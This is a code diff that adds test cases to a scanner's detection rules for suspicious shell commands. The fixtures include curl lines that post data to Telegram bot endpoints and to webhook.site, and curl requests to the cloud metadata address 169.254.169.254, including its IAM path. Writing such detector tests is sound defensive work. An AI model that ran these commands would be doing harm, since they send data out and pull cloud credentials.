@@ -3,6 +3,18 @@ import { dropHost, rawAddress, privateNetwork, metadataAddress } from './suspect
 
 ruleCases(dropHost, {
   hits: [
+    {
+      name: "a bot of the person's own, rated medium",
+      path: 'a.sh',
+      text: 'curl "https://api.telegram.org/bot$TELEGRAM_TOKEN/sendMessage" -d text=x\n',
+      severity: 'medium',
+    },
+    {
+      name: "somebody's bot",
+      path: 'a.sh',
+      text: 'curl "https://api.telegram.org/bot7123456:AAxyz/sendMessage" -d text=x\n',
+    },
+
     { name: 'a request catcher', path: 'a.sh', text: 'curl -d @a https://webhook.site/5f1c\n' },
     {
       name: 'a hook of a chat',
@@ -81,6 +93,29 @@ ruleCases(privateNetwork, {
 
 ruleCases(metadataAddress, {
   hits: [
+    {
+      name: 'a rule that shuts it off, rated low',
+      path: 'a.sh',
+      text: 'iptables -A OUTPUT -m owner --uid-owner ci -d 169.254.169.254 -j REJECT\n',
+      severity: 'low',
+    },
+    {
+      name: 'a rule that opens it',
+      path: 'a.sh',
+      text: 'iptables -A OUTPUT -d 169.254.169.254 -j ACCEPT\n',
+    },
+    {
+      name: 'whether it answers, rated low',
+      path: 'a.sh',
+      text: "curl -s -o /dev/null -w '%{http_code}' http://169.254.169.254/latest/meta-data/\n",
+      severity: 'low',
+    },
+    {
+      name: 'what it answers',
+      path: 'a.sh',
+      text: 'curl -s -o /tmp/m http://169.254.169.254/latest/meta-data/\n',
+    },
+
     { name: 'Amazon', path: 'a.sh', text: 'curl http://169.254.169.254/latest/meta-data/iam/\n' },
     {
       name: 'Google',
